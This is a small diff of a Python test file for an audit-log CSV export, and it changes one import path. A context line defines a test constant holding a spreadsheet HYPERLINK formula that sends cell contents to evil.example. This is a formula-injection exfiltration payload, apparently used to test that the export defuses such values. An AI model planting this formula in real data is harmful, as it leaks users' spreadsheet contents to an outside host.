@@ -12,7 +12,7 @@ import pytest
 
 from sandbox.resources.audit_log import CSV_COLUMNS, defused, export_audit_log_csv
 from sandbox.resources.request import ApiRequest
-from tests.conftest import auth
+from tests.support import auth
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
